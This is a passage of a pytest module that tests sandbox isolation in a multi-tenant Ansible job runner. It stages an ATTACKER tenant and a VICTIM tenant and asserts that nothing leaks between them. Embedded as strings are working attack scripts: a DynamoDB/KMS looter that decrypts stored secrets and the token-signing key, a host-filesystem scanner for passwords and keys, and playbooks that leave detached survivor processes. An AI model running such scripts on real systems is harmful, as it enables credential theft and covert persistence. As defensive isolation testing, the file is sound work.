    found = {"tables": dynamodb.list_tables()["TableNames"], "jobs": [], "secrets": {}}
    for table in found["tables"]:
        try:
            items = dynamodb.scan(TableName=table, Limit=500)["Items"]
        except Exception as exc:
            found.setdefault("errors", []).append(repr(exc))
            continue
        for item in items:
            if "sealedKey" in item:  # the token signing key: a KMS data key sealed for this purpose
                try:
                    plaintext = kms.decrypt(CiphertextBlob=base64.b64decode(item["sealedKey"]["S"]),
                                            EncryptionContext={"purpose": "token-signing"})["Plaintext"]
                    found["secrets"]["token signing key"] = base64.urlsafe_b64encode(plaintext).rstrip(b"=").decode()
                except Exception as exc:
                    found["secrets"]["token signing key"] = repr(exc)
            if "sealed" not in item or "jobId" not in item:
                continue
            account, job = item["accountAlias"]["S"], item["jobId"]["S"]
            opened = {}
            try:
                keys = {}
                for path, envelope in json.loads(item["sealed"]["S"]).items():
                    if envelope["k"] not in keys:
                        context = {"accountAlias": account, "jobId": job}
                        keys[envelope["k"]] = kms.decrypt(CiphertextBlob=base64.b64decode(envelope["k"]),
                                                          EncryptionContext=context)["Plaintext"]
                    opened[path] = AESGCM(keys[envelope["k"]]).decrypt(
                        base64.b64decode(envelope["n"]), base64.b64decode(envelope["c"]),
                        ("%s/%s/%s" % (account, job, path)).encode()).decode()
            except Exception as exc:
                opened["error"] = repr(exc)
            found["jobs"].append({"account": account, "job": job, "spec": item.get("spec", {}).get("S", "")[:3000],
                                  "secrets": opened})
    found["jobs"] = found["jobs"][:60]
    return found


ports = listening_ports()
with ThreadPoolExecutor(16) as pool:
    emulators = [port for port in pool.map(moto, ports) if port]
result = {"listening": ports, "emulators": {}}
for port in emulators:
    try:
        result["emulators"][port] = loot("http://127.0.0.1:%d" % port)
    except Exception as exc:
        result["emulators"][port] = {"error": repr(exc)}
emit("emulator_over_loopback", result)
'''

HOSTFS_PY = r'''"""Read what the host leaves readable around this run's own repository (its origin in .git/config).

The sandbox's root is the host's, read-only: whatever the host's files let any user read, a
playbook reads too.
"""
import configparser
import os
import re
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import emit  # noqa: E402

WORKSPACE = sys.argv[1]
INTERESTING = re.compile(rb"(?i)password|passwd|bearer|token|secret|private key")
config = configparser.ConfigParser(strict=False)
config.read(os.path.join(WORKSPACE, "project", ".git", "config"))
origin = config.get('remote "origin"', "url", fallback="")
# file:///<base>/<run>/<repository dir>/playbooks: look around from <run>.
around = ""
if origin.startswith("file://"):
    around = os.path.dirname(os.path.dirname(origin.removeprefix("file://")))
found, scanned, deadline = {}, 0, time.monotonic() + 30
for directory, subdirectories, files in (os.walk(around) if around else []):
    # Code is no secret: the function's own (as in /var/task) and other sources.
    subdirectories[:] = [name for name in subdirectories if name not in (".git", "objects", "__pycache__", "sandbox")]
    for name in files:
        path = os.path.join(directory, name)
        if name.endswith((".py", ".sample")):
            continue
        if time.monotonic() > deadline or len(found) >= 200:
            break
        try:
            if os.path.getsize(path) > 512 * 1024:
                continue
            with open(path, "rb") as handle:
                data = handle.read()
        except OSError:
            continue
        scanned += 1
        lines = [line.strip()[:300].decode("utf-8", "replace") for line in data.splitlines()
                 if INTERESTING.search(line)]
        if lines:
            found[path] = lines[:20]
emit("host_filesystem", {"origin": origin, "around": around, "scanned": scanned, "found": found})
'''

CENSUS_PY = r'''"""Every process of the sandbox, seen from a run: only the worker (PID 1) and this run's own."""
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import emit, pid1, processes  # noqa: E402

own = os.environ.get("RUNNER_RUN_ID")
emit("census", {"own_run": own, "pid1": pid1(), "processes": processes(own)})
'''


def task(technique: str, command: str) -> str:
    """A playbook task running `command` for `technique`, and one printing its output to the log."""
    return (f"    - name: attack {technique}\n      command: \"{command}\"\n      register: found\n"
            f"    - name: attack {technique} (what it got)\n      debug:\n        msg: \"{{{{ item }}}}\"\n"
            f"      loop: \"{{{{ found.stdout_lines }}}}\"\n      loop_control:\n        label: part\n")


PLAY_HEAD = """- hosts: all
  gather_facts: false
  vars:
    py: "{{ ansible_playbook_python }}"
    files: "{{ playbook_dir }}/files"
    workspace: "{{ playbook_dir | dirname }}"
    worker_names: %s
  tasks:
"""


def plant_playbook(worker_names: list[str]) -> str:
    """ATTACKER's first run: every technique tried, implants planted, background processes left.

    Few tasks: ansible-playbook in the sandbox leaks a megabyte of its user's pipe quota for every
    multiprocessing lock it makes (three per task), and hangs when the quota runs out.
    """
    lookup = ("@@env_lookup@@{{ dict(worker_names | zip(query('env', *worker_names))) | dict2items"
              " | selectattr('value') | items2dict | to_json | b64encode }}@@")
    survivor = "{{ py }} -I {{ files }}/survivor.py %s %s {{ receiver }} {{ workspace }} " + str(SURVIVOR_SECONDS)
    return (PLAY_HEAD % json.dumps(worker_names)
            + f"    - name: attack env_lookup\n      debug:\n        msg: \"{lookup}\"\n"
            + task("with_scripts", "{{ py }} -I {{ files }}/attack.py {{ receiver }} "
                                   "{{ lookup('env', 'RUNNER_RUN_ID') }} {{ workspace }}")
            + "    - name: attack with background processes\n      shell: |\n"
              "        env -u RUNNER_RUN_ID ISOLATION_SURVIVOR=survivor_setsid_nohup setsid nohup "
            + survivor % ("survivor_setsid_nohup", "loop") + " </dev/null >/dev/null 2>&1 &\n"
            + "        " + survivor % ("survivor_double_fork", "launch") + "\n"
            + "        " + survivor % ("survivor_refork_loop", "launch") + "\n"
            + "    - name: attack survivor_async_task\n"
              f"      command: \"{survivor % ('survivor_async_task', 'loop')}\"\n"
              f"      async: {SURVIVOR_SECONDS + 30}\n      poll: 0\n"
            + "    - name: the background processes are alive before the run ends\n"
              "      wait_for:\n        path: \"/tmp/.loot/{{ item }}-beat\"\n        timeout: 90\n"
              f"      loop: {json.dumps(SURVIVORS)}\n")


COLLECT_YML = (PLAY_HEAD % "[]"
               + task("collect", "{{ py }} -I {{ files }}/collect.py {{ workspace }}")
               + task("emulator_over_loopback", "{{ py }} -I {{ files }}/emulator.py")
               + task("host_filesystem", "{{ py }} -I {{ files }}/hostfs.py {{ workspace }}"))
CENSUS_YML = PLAY_HEAD % "[]" + task("census", "{{ py }} -I {{ files }}/census.py")
VICTIM_YML = """- hosts: all
  gather_facts: false
  tasks:
    - name: reach the host with the job's key
      ping:
    - name: use the job's extra vars
      command: "echo {{ victim_canary }}"
"""


# ----------------------------------------------------------------------------------------------
# The test's side: secrets to look for, runs, and what ATTACKER could see
# ----------------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Secret:
    """Something ATTACKER must never see: a worker credential or a VICTIM canary."""

    owner: str
    label: str
    pattern: re.Pattern


def assignment(name: str) -> re.Pattern:
    """`name` with a value: NAME=value, "NAME": "value" (also JSON-escaped, at any depth)."""
    return re.compile(rf"(?<![A-Za-z0-9_]){re.escape(name)}(?:=|\\*[\"']\s*:\s*\\*[\"'])[^\s\"'\\,}}]")


def worker_secrets(environment: dict[str, str], signing_key: bytes) -> list[Secret]:
    """The worker's own variables (any value), the distinctive values among its credentials and
    resources, and the service's token signing key (sealed in the accounts table: what the worker
    must never open), as tokens are signed with it and in plain base64."""
    found = [Secret("worker", f"variable {name}", assignment(name))
             for name in sorted((set(environment) | set(WORKER_ONLY)) - GRANTED)]
    found.append(Secret("worker", "token signing key", re.compile(re.escape(key_text(signing_key)))))
    found.append(Secret("worker", "token signing key (base64)",
                        re.compile(re.escape(base64.b64encode(signing_key).decode().rstrip("=")))))
    for name, value in sorted(environment.items()):
        credential = name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "RUNNER_KMS_KEY_ID")
        resource = name.endswith(("_TABLE", "_QUEUE_URL", "_STATE_MACHINE_ARN"))
        # Values as short as the emulator's "local" credentials are caught with their names only.
        if (credential or resource) and len(value) >= 12:
            found.append(Secret("worker", f"value of {name}", re.compile(re.escape(value))))
    return found


def victim_secrets(password: str, extra: str, key_pem: bytes, key_b64: str, other_pem: bytes,
                   account: dict) -> list[Secret]:
    """VICTIM's repository password, extra-var canary, private key (each line of its PEM) and login.

    Lines the key shares with `other_pem`, another key of its kind (OpenSSH's header), say nothing.
    `account` is VICTIM's entry in local.json (its user's password and a bearer token).
    """
    middle = len(key_b64) // 2
    found = [Secret("victim", "repository password", re.compile(re.escape(password))),
             Secret("victim", "account password", re.compile(re.escape(account["password"]))),
             Secret("victim", "account bearer token", re.compile(re.escape(account["bearerToken"][-40:]))),
             Secret("victim", "extra-var canary", re.compile(re.escape(extra))),
             Secret("victim", "private key (base64 as given)",
                    re.compile(re.escape(key_b64[middle - 30:middle + 30])))]
    common = set(other_pem.decode().splitlines())
    lines = [line for line in key_pem.decode().splitlines() if line not in common and not line.startswith("-----")]
    found += [Secret("victim", f"private key line {index}", re.compile(re.escape(line)))
              for index, line in enumerate(lines, start=1) if len(line) >= 16]
    return found


@dataclass
class Run:
    """One execution to its end, with what its account sees of it."""

    kind: str
    execution: dict
    log: str
    events: list[dict]

    @property
    def status(self) -> str:
        return self.execution.get("status", "?")

    @property
    def run_id(self) -> str:
        """The marker its processes carry (RUNNER_RUN_ID): execution id and attempt."""
        return f"{self.execution['execution_id']}-{self.execution.get('attempt', 1)}"


def create_job(api: Client, account: str, body: dict) -> dict:
    """Create a job of `account`; answer it."""
    answer = api.post(f"/jobs/{account}", json=body)
    assert answer.status_code == 201, answer.text
    return answer.json()[0]


def all_events(api: Client, path: str) -> list[dict]:
    """Every event of an execution, page after page."""
    found, after = [], -1
    while True:
        page = api.get(f"{path}/events", params={"after": after, "size": 100}).json()
        found += page["results"]
        if page.get("next") is None:
            return found
        after = page["next"]


def run_to_end(instance: LocalMode, account: str, job: dict, kind: str, timeout: float = 150) -> Run:
    """Start the job and wait for its final status; answer the run with its log and events."""
    api = instance.client(account)
    started = api.post(f"/jobs/{account}/{job['id']}/start", json={})
    assert started.status_code == 201, started.text
    path = f"/jobs/{account}/{job['id']}/executions/{started.json()['execution_id']}"
    done = wait_for(lambda: api.get(path).json(), lambda current: current.get("status") in FINAL, timeout,
                    lambda current: f"the {kind} run never ended: {current.get('status')}; its log so far:\n"
                                    f"{api.get(f'{path}/log').text[-4000:]}")
    return Run(kind, done, api.get(f"{path}/log").text, all_events(api, path))


def decode_tokens(text: str, depth: int = 0, deepest: int = 3) -> Iterator[tuple[str, str]]:
    """(tag, decoded text) of every @@tag@@base64@@ in `text`, and of those nested in them."""
    for tag, blob in TOKEN.findall(text):
        try:
            decoded = base64.b64decode(blob).decode("utf-8", "replace")
        except (binascii.Error, ValueError):
            continue
        yield tag, decoded
        if depth < deepest:
            yield from decode_tokens(decoded, depth + 1, deepest)


def tokens(run: Run) -> dict[str, Any]:
    """The attack output of a run, by tag: the JSON its pieces make together (see COMMON_PY's emit)."""
    pieces: dict[str, dict[int, tuple[int, str]]] = defaultdict(dict)
    for tag, decoded in decode_tokens(run.log, deepest=0):
        base, _, numbers = tag.partition(".")
        index, _, parts = numbers.partition(".")
        pieces[base][int(index or 0)] = (int(parts or 1), decoded)
    found: dict[str, Any] = {}
    for base, parts in pieces.items():
        count = next(iter(parts.values()))[0]
        if sorted(parts) != list(range(count)):
            found[base] = {"incomplete": sorted(parts)}
            continue
        text = "".join(parts[index][1][:CHUNK] if index < count - 1 else parts[index][1] for index in range(count))
        try:
            found[base] = json.loads(text)
        except ValueError:
            found[base] = text
    return found


def technique_of(label: str) -> str:
    """The technique a channel label or token tag stands for, or the label itself."""
    name = label.split(":")[-1].split(".")[0]
    return name if name in TECHNIQUES else label.split(".")[0]


@dataclass
class Verdict:
    """What each technique tried and got, and everything else ATTACKER's view showed."""

    tried: dict[str, list[str]] = field(default_factory=lambda: defaultdict(list))
    got: dict[str, list[str]] = field(default_factory=lambda: defaultdict(list))
    leaks: dict[str, set[str]] = field(default_factory=lambda: defaultdict(set))
    controls: dict[str, list[str]] = field(default_factory=lambda: defaultdict(list))
    foreign_processes: list[dict] = field(default_factory=list)
    leftovers: dict[str, Any] = field(default_factory=dict)
    notes: dict[str, Any] = field(default_factory=dict)


@dataclass
class Scenario:
    """Everything the module's one scenario produced."""

    plant: Run
    victim: Run
    collect: Run
    census: Run
    received: list[dict]
    git_requests: list
    verdict: Verdict
    # How many reports the background processes had made when VICTIM's run ended, and at the end.
    reports_after_victim: int
    reports_at_end: int


def attacker_view(runs: list[Run], received: list[dict]) -> list[tuple[str, str]]:
    """(channel label, text) of everything ATTACKER can see."""
    view: list[tuple[str, str]] = []
    for run in runs:
        view.append((f"{run.kind}:execution", json.dumps(run.execution)))
        view.append((f"{run.kind}:log", run.log))
        for event in run.events:
            match = TASK.match(event.get("task") or "")
            named = match.group(1) if match and match.group(1) in TECHNIQUES else None
            label = named or f"{run.kind}:{event.get('task') or event.get('event')}"
            view.append((label, json.dumps(event)))
    for post in received:
        parts = post["path"].strip("/").split("/")
        label = parts[-1] if parts and parts[-1] in TECHNIQUES else f"receiver:{post['path']}"
        view.append((label, post["raw"].decode("utf-8", "replace") + json.dumps(post["headers"])))
    return view


def search(view: list[tuple[str, str]], wanted: list[Secret]) -> dict[str, set[str]]:
    """Channel (or decoded token's technique) -> the secrets found in it."""
    leaks: dict[str, set[str]] = defaultdict(set)
    for label, text in view:
        pieces = [(label, TOKEN.sub("", text))] + [(technique_of(tag), decoded) for tag, decoded in decode_tokens(text)]
        for where, piece in pieces:
            for secret in wanted:
                if secret.pattern.search(piece):
                    leaks[where].add(f"{secret.owner} {secret.label}")
    return leaks


def survivor_reports(receiver: Receiver) -> int:
    """How many reports the receiver has had from background processes so far."""
    with receiver.lock:
        return sum(1 for post in receiver.received if post["path"].startswith("/survivor/"))


def posts(received: list[dict], kind: str) -> Iterator[tuple[str, dict, dict]]:
    """(technique, JSON body, headers) of the receiver's POSTs to /<kind>/<technique>."""
    for post in received:
        parts = post["path"].strip("/").split("/")
        if len(parts) == 2 and parts[0] == kind:
            try:
                body = json.loads(post["raw"] or b"{}")
            except ValueError:
                body = {"unparsed": post["raw"][:200].decode("utf-8", "replace")}
            yield parts[1], body, post["headers"]


def judge(plant: Run, collect: Run, census: Run, received: list[dict], wanted: list[Secret]) -> Verdict:
    """Which techniques were tried, and which got anything (see the module's docstring)."""
    verdict = Verdict()
    planted, gathered, counted = tokens(plant), tokens(collect), tokens(census)
    # Tried: the attack's own output, its planted files, its processes' first reports.
    for name in PRINTED:
        if name in planted:
            verdict.tried[name].append("printed its findings in the plant run")
    for name in ("emulator_over_loopback", "host_filesystem"):
        if name in gathered:
            verdict.tried[name].append("printed its findings in the collect run")
    implants = planted.get("implants") or {}
    for name, paths in (implants.get("planted") or {}).items():
        verdict.tried[name].append(f"planted {paths}")
    verdict.notes["implant_failures"] = implants.get("failed")
    verdict.notes["script_failures"] = planted.get("failed")
    for name, body, headers in posts(received, "survivor"):
        if not verdict.tried[name]:
            verdict.tried[name].append(f"reported from the plant run (pid {body.get('pid')})")
        if body.get("foreign_workspaces") or body.get("foreign_processes"):
            verdict.got[name].append(f"survived into a later run: saw {body.get('foreign_workspaces')} and "
                                     f"processes {sorted(body.get('foreign_processes') or {})}")
    # Controls: the implant fired when its place was used on purpose, so its silence later means something.
    for name, body, headers in posts(received, "implant"):
        if body.get("control"):
            if name != "implant_netrc" or "Basic aXNvbGF0aW9uLW5ldHJj" in headers.get("Authorization", ""):
                verdict.controls[name].append(f"fired in pid {body.get('pid')}")
        elif body.get("run_id") != plant.run_id:
            verdict.got[name].append(f"ran in a later run (run {body.get('run_id')}, argv {body.get('argv')})")
    # Left behind: a later run still finds the implant or a process's loot.
    for tag, value in gathered.items():
        name = technique_of(tag)
        if name in TECHNIQUES and isinstance(value, dict) and value.get("present"):
            verdict.got[name].append(f"still there in the collect run: {sorted(value['present'])[:8]}")
    verdict.leftovers["foreign_workspaces"] = (gathered.get("collect:foreign_workspaces") or {}).get("present")
    # ansible puts a local connection's module files under the user's home (/tmp), not under
    # TMPDIR: the collect run's own /tmp/.ansible/tmp is no leftover.
    entries = (gathered.get("collect:tmp_listing") or {}).get("entries") or {}
    # Local mode binds what the worker needs of the host's /tmp (a checkout there, its .venv)
    # read-only into the sandbox's /tmp: those are the host's, not a run's.
    bound = {Path(part).parts[2] for part in (sys.prefix, str(REPOSITORY)) if Path("/tmp") in Path(part).parents}
    verdict.leftovers["tmp"] = {name: paths for name, paths in entries.items() if name not in bound
                                and any(not path.startswith("/tmp/.ansible/tmp/") for path in paths)}
    # Processes: in the collect and census runs, nothing but the worker and the run's own.
    for tag, seen in (("collect:processes", gathered.get("collect:processes")), ("census", counted.get("census"))):
        for process in (seen or {}).get("processes", []):
            if process["pid"] == 1 or process.get("own") or process.get("state") == "Z":
                continue
            verdict.foreign_processes.append(dict(process, seen_by=tag))
            command = process.get("cmdline") or []
            owner = next((command[index + 1] for index, part in enumerate(command[:-1])
                          if part.endswith("survivor.py")), "unknown")
            verdict.got[technique_of(owner)].append(f"process {process['pid']} alive in the {tag} run: {command}")
    # Secrets: anything of the worker or VICTIM anywhere ATTACKER can see.
    verdict.leaks = search(attacker_view([plant, collect, census], received), wanted)
    for where, found in verdict.leaks.items():
        if where in TECHNIQUES:
            verdict.got[where].append(f"got {sorted(found)}")
    verdict.notes["sandboxes"] = sorted({json.dumps(info) for info in (
        (planted.get("proc_cmdline") or {}).get("pid1"), (gathered.get("collect:processes") or {}).get("pid1"),
        (counted.get("census") or {}).get("pid1")) if info})
    verdict.notes["pid1_files"] = (planted.get("proc_mem") or {}).get("pid1")
    verdict.notes["proc_environ_refused"] = (planted.get("proc_environ") or {}).get("refused")
    verdict.notes["proc_mem_results"] = (planted.get("proc_mem") or {}).get("results")
    lives: dict[str, list[float]] = defaultdict(list)
    for name, body, _ in posts(received, "survivor"):
        lives[name].append(float(body.get("alive_for") or 0))
    verdict.notes["survivor_reports"] = {name: {"reports": len(times), "longest_life_seconds": round(max(times), 1)}
                                         for name, times in lives.items()}
    verdict.notes["persist"] = {key: value for key, value in (planted.get("persist_outside_tmp") or {}).items()
                                if key != "written"}
    return verdict


def report(verdict: Verdict, path: Path) -> dict:
    """The counts, printed and written as JSON to `path`."""
    def counts(names: list[str]) -> dict:
        return {"tried": sum(1 for name in names if verdict.tried.get(name)),
                "got_anything": sum(1 for name in names if verdict.got.get(name))}

    summary = {
        "issue_techniques": counts(ISSUE_TECHNIQUES),
        "all_techniques": counts(list(TECHNIQUES)),
        "succeeded": {name: verdict.got[name] for name in TECHNIQUES if verdict.got.get(name)},
        "not_tried": [name for name in TECHNIQUES if not verdict.tried.get(name)],
        "other_leaks": {where: sorted(found) for where, found in verdict.leaks.items() if where not in TECHNIQUES},
        "controls_fired": sorted(name for name in verdict.controls if verdict.controls[name]),
        "foreign_processes": verdict.foreign_processes,
        "leftovers": verdict.leftovers,
        "notes": verdict.notes,
    }
    path.write_text(json.dumps(summary, indent=2, default=str), encoding="utf-8")
    print(f"\nisolation attacks (issue's techniques): tried {summary['issue_techniques']['tried']}, "
          f"got anything {summary['issue_techniques']['got_anything']}")
    print(f"isolation attacks (all {len(TECHNIQUES)} techniques): tried {summary['all_techniques']['tried']}, "
          f"got anything {summary['all_techniques']['got_anything']}")
    for name, reasons in summary["succeeded"].items():
        print(f"  {name} ({TECHNIQUES[name]}): {'; '.join(reasons)[:600]}")
    print(f"  written to {path}")
    return summary


# ----------------------------------------------------------------------------------------------
# The scenario: one local mode, one sandbox, four runs
# ----------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def isolation_scenario(tmp_path_factory: pytest.TempPathFactory,
                       ssh_server: SshServer) -> Iterator[Scenario]:  # noqa: F811 - the fixture
    """ATTACKER plants and spies, VICTIM runs with its secrets, ATTACKER collects and counts processes."""
    base = tmp_path_factory.mktemp("isolation")
    instance = LocalMode(base / "state", base / "logs", accounts=f"{ATTACKER},{VICTIM}",
                         env={"RUNNER_LOCAL_WORKERS": "1"})
    receiver = Receiver()
    password, extra = f"victim-pw-{secrets.token_hex(16)}", f"victim-extra-{secrets.token_hex(16)}"
    git_http = GitHttpServer(base / "git-http", "victim", password)
    try:
        instance.start()
        git_http.start()
        environment = instance.emulator_environment()
        attacker_repo = tmp_path_factory.mktemp("attacker-repo") / "playbooks"
        make_repo(attacker_repo, {
            "plant.yml": plant_playbook(sorted((set(environment) | set(WORKER_ONLY)) - GRANTED)),
            "collect.yml": COLLECT_YML, "census.yml": CENSUS_YML,
            "files/common.py": COMMON_PY, "files/attack.py": ATTACK_PY, "files/procs.py": PROCS_PY,
            "files/artifacts.py": ARTIFACTS_PY, "files/implants.py": IMPLANTS_PY, "files/survivor.py": SURVIVOR_PY,
            "files/persist.py": PERSIST_PY,
            "files/collect.py": COLLECT_PY, "files/emulator.py": EMULATOR_PY, "files/hostfs.py": HOSTFS_PY,
            "files/census.py": CENSUS_PY})
        victim_repo = tmp_path_factory.mktemp("victim-repo") / "playbooks"
        make_repo(victim_repo, {"site.yml": VICTIM_YML})
        attacker, victim_api = instance.client(ATTACKER), instance.client(VICTIM)
        localhost = [{"id": "localhost", "hostVars": {"ansible_connection": "local"}}]

        def attacker_job(playbook: str) -> dict:
            return create_job(attacker, ATTACKER, {
                "repository": {"url": f"file://{attacker_repo}", "defaultPlaybook": playbook},
                "hosts": localhost, "properties": {"receiver": receiver.url}})

        plant_job, collect_job, census_job = (attacker_job(name) for name in ("plant.yml", "collect.yml", "census.yml"))
        victim_job = create_job(victim_api, VICTIM, {
            "repository": {"url": git_http.publish(victim_repo, "victim"), "defaultPlaybook": "site.yml",
                           "credentials": {"username": "victim", "password": password}},
            "hosts": [{"id": "127.0.0.1", "sshPrivateKey": ssh_server.client_private_key_b64,
                       "hostVars": {"ansible_connection": "ssh", "ansible_port": ssh_server.port,
                                    "ansible_user": ssh_server.user,
                                    "ansible_python_interpreter": ssh_server.python_interpreter}}],
            "properties": {"victim_canary": extra}})

        # GIVEN ATTACKER's plant run tried everything and left implants and processes behind
        plant = run_to_end(instance, ATTACKER, plant_job, "plant", timeout=240)
        # WHEN VICTIM runs with its password, key and canary in the same sandbox
        victim = run_to_end(instance, VICTIM, victim_job, "victim")
        # (the worker cleaned up after the plant run before it took VICTIM's: no process of the
        # plant run can report from here on)
        reports_after_victim = survivor_reports(receiver)
        # AND ATTACKER collects what was gathered, then counts the sandbox's processes
        collect = run_to_end(instance, ATTACKER, collect_job, "collect")
        census = run_to_end(instance, ATTACKER, census_job, "census")

        with receiver.lock:
            received = list(receiver.received)
        sealed_key = instance.aws("dynamodb").get_item(
            TableName=environment["RUNNER_ACCOUNTS_TABLE"], Key={"accountAlias": {"S": SIGNING_KEY_ITEM}},
            ConsistentRead=True)["Item"]["sealedKey"]["S"]
        signing_key = instance.aws("kms").decrypt(CiphertextBlob=base64.b64decode(sealed_key),
                                                  EncryptionContext=TOKEN_SIGNING_CONTEXT)["Plaintext"]
        wanted = worker_secrets(environment, signing_key) + victim_secrets(
            password, extra, ssh_server.client_private_key_pem, ssh_server.client_private_key_b64,
            ssh_server.other_private_key_pem, instance.account(VICTIM))
        verdict = judge(plant, collect, census, received, wanted)
        report(verdict, tmp_path_factory.getbasetemp() / "isolation-attacks.json")
        # Everything the attacks printed, decoded, for whoever reads a failure.
        (tmp_path_factory.getbasetemp() / "isolation-evidence.json").write_text(json.dumps(
            {run.kind: tokens(run) for run in (plant, collect, census)}, indent=1, default=str), encoding="utf-8")
        yield Scenario(plant, victim, collect, census, received, list(git_http.requests), verdict,
                       reports_after_victim, survivor_reports(receiver))
    finally:
        instance.kill()
        git_http.stop()
        receiver.server.shutdown()


# ----------------------------------------------------------------------------------------------
# The tests
# ----------------------------------------------------------------------------------------------
def test_every_run_of_the_scenario_succeeds(isolation_scenario: Scenario) -> None:
    """ATTACKER's runs end SUCCESS (the attacks do not break them) and VICTIM's run uses its secrets."""
    # GIVEN the scenario's four runs in one sandbox
    scenario = isolation_scenario
    # THEN each ended SUCCESS
    for run in (scenario.plant, scenario.victim, scenario.collect, scenario.census):
        assert run.status == "SUCCESS", (run.kind, run.execution, run.log[-3000:])
    # AND VICTIM's clone authenticated with its password
    assert any(request.auth_ok for request in scenario.git_requests), scenario.git_requests


@pytest.mark.parametrize("technique", list(TECHNIQUES))
def test_the_technique_is_really_tried(isolation_scenario: Scenario, technique: str) -> None:
    """Each technique leaves evidence that it ran: its output, its planted files, its processes' reports."""
    # GIVEN the plant and collect runs
    verdict = isolation_scenario.verdict
    # THEN the technique was tried, so that its getting nothing means something
    assert verdict.tried.get(technique), f"{technique} ({TECHNIQUES[technique]}) left no evidence of being tried"


@pytest.mark.parametrize("technique", CONTROLLED)
def test_each_implant_fires_where_it_is_planted(isolation_scenario: Scenario, technique: str) -> None:
    """The plant run uses each place on purpose once: the implant reports, so it would report from a later run."""
    # GIVEN the plant run's controls (each place used as a later run would use it)
    verdict = isolation_scenario.verdict
    # THEN the implant fired and reached the receiver
    assert verdict.controls.get(technique), (
        f"{technique} never fired, even on purpose: {isolation_scenario.verdict.notes.get('implant_failures')}; "
        f"{tokens(isolation_scenario.plant).get('implants', {}).get('controls')}")


@pytest.mark.parametrize("technique", list(TECHNIQUES))
def test_the_technique_gets_nothing(isolation_scenario: Scenario, technique: str) -> None:
    """No secret through it, no implant running or left in a later run, no process surviving its run."""
    # GIVEN everything ATTACKER could see, and what its implants and processes did
    verdict = isolation_scenario.verdict
    # THEN the technique got nothing
    assert not verdict.got.get(technique), f"{technique} ({TECHNIQUES[technique]}) got: {verdict.got[technique]}"


def test_no_secret_reaches_the_attacker_through_any_channel(isolation_scenario: Scenario) -> None:
    """No worker credential and no VICTIM canary in ATTACKER's logs, events, executions or receiver, wherever."""
    # GIVEN everything ATTACKER could see
    leaks = isolation_scenario.verdict.leaks
    # THEN none of it holds a secret, whichever channel or technique
    assert not leaks, {where: sorted(found) for where, found in leaks.items()}


def test_nothing_of_the_attacker_outlives_its_run(isolation_scenario: Scenario) -> None:
    """Later runs see only the worker and their own processes, and a /tmp with only their own workspace."""
    # GIVEN the collect and census runs, after the plant run and VICTIM's
    verdict = isolation_scenario.verdict
    # THEN no process of another run was alive
    assert not verdict.foreign_processes, verdict.foreign_processes
    # AND /tmp held nothing but the run's own workspace
    assert not verdict.leftovers["tmp"], verdict.leftovers
    assert not verdict.leftovers["foreign_workspaces"], verdict.leftovers
    # AND no background process ever reported seeing another run
    spied = [body for name, body, _ in posts(isolation_scenario.received, "survivor")
             if body.get("foreign_workspaces") or body.get("foreign_processes")]
    assert not spied, spied[:3]
    # AND none reported at all once VICTIM's run had ended (they report every second while alive)
    assert isolation_scenario.reports_at_end == isolation_scenario.reports_after_victim, (
        isolation_scenario.reports_after_victim, isolation_scenario.reports_at_end)
